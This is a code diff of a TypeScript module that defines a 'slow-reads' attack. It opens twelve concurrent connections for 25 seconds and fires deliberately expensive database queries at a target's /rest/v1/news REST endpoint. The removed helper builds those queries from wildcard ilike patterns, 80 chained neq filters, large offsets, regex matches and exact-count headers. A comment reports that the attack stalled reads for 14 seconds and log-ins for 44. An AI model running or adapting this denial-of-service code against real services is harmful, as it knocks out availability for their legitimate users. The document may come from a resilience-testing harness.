@@ -1,12 +1,11 @@
 import { setTimeout as pause } from 'node:timers/promises';
-import type { Attack, TargetFacts } from './attack.ts';
+import type { Attack } from './attack.ts';
+import { askDearly, newsQuestions } from './dear-questions.ts';
 import { fillNews } from './fill-news.ts';
 
 const connections = 12;
 const attackMs = 25_000;
 const pauseMs = 50;
-const patterns = ['*e%25a*', '*o%25a%25e*', '*z%25', '*r%25d%25r*'];
-
 /** 1.25 requests a second of this kind made reads wait for 14 s, and log-ins for 44 s. */
 export const slowReads: Attack = {
   name: 'slow-reads',
@@ -19,7 +18,8 @@ export const slowReads: Attack = {
     await Promise.all(
       Array.from({ length: connections }, async (_, connection) => {
         for (let turn = 0; performance.now() < until; turn += 1) {
-          const status = await askDearly(target, `c${connection}_${turn}`, turn);
+          const question = newsQuestions[turn % newsQuestions.length] ?? '';
+          const status = await askDearly(target, question, `c${connection}_${turn}`);
           statuses.set(status, (statuses.get(status) ?? 0) + 1);
           await pause(pauseMs);
         }
@@ -28,24 +28,3 @@ export const slowReads: Attack = {
     return Object.fromEntries([...statuses].map(([status, count]) => [`answers ${status}`, count]));
   },
 };
-
-async function askDearly(
-  { url, publishableKey }: TargetFacts,
-  name: string,
-  turn: number,
-): Promise<number> {
-  const likes = patterns.map((pattern) => `summary.ilike.${pattern}`).join();
-  const numbers = Array.from({ length: 80 }, (_, number) => `summary.neq.${number}`).join();
-  const queries = [
-    `or=(${likes})&and=(${numbers})&order=summary.desc,headline.desc&offset=11000`,
-    `and=(${numbers})&order=summary.asc,headline.asc&limit=1`,
-    'summary=imatch.(w|o)*(r|d)*x&order=summary.desc',
-    'summary=wfts.word&order=summary.desc',
-  ];
-  const response = await fetch(
-    `${url}/rest/v1/news?select=${name}:id&${queries[turn % queries.length]}`,
-    { headers: { apikey: publishableKey, prefer: 'count=exact' } },
-  );
-  await response.arrayBuffer();
-  return response.status;
-}
